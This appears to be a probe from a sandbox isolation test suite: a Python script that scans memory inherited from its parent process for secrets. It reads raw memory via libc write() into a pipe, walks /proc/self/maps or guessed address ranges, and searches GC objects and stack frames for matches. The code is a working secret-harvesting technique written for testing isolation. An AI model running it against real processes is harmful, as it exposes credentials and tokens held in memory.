"""Searches its own memory, which it has from the process that it was forked from, for anything that looks secret."""

import ctypes
import gc
import os
import sys

from kit import LIBC, MEGABYTE, SECRET, escaped

PAGE = 4096
PIECE = 16 * PAGE
END, START = os.pipe()
LIBC.write.restype = ctypes.c_ssize_t


def peek(address, size):
    """Bytes of its own memory, which the kernel copies into a pipe, or none where nothing is mapped."""
    copied = LIBC.write(START, ctypes.c_void_p(address), ctypes.c_size_t(size))
    return os.read(END, copied) if copied > 0 else b""


def areas():
    """Where memory is mapped, or where it may be if that is not told: around things whose place is known."""
    try:
        with open("/proc/self/maps") as maps:
            for line in maps.read().splitlines():
                span, rights = line.split()[:2]
                if "r" in rights and "[v" not in line:
                    yield tuple(int(end, 16) for end in span.split("-"))
    except OSError:
        places = {id(object()), id(sys), id(int), ctypes.cast(LIBC.write, ctypes.c_void_p).value, id(bytearray(9))}
        places.add(ctypes.addressof(ctypes.create_string_buffer(8 * MEGABYTE)))
        for place in {place >> 26 << 26 for place in places}:
            yield max(PAGE, place - (64 * MEGABYTE)), place + 128 * MEGABYTE


found, scanned = set(), 0
for first, last in areas():
    for place in range(first, last, PIECE - PAGE):  # they overlap, as a secret may lie across
        piece = peek(place, min(PIECE, last - place))
        scanned += len(piece)
        found |= set(SECRET.findall(piece))
for thing in gc.get_objects():
    if isinstance(thing, dict) and thing is not globals():
        found |= set(SECRET.findall(repr(list(thing.items())[:50]).encode(errors="replace")))
for frame in sys._current_frames().values():
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, str | bytes):
                found |= set(SECRET.findall(value.encode(errors="replace") if isinstance(value, str) else value))
        frame = frame.f_back
for secret in found:
    escaped("remembers", secret.decode())
if scanned < MEGABYTE:
    escaped("nothing was scanned: this attack does not work any more", scanned)
print("done")
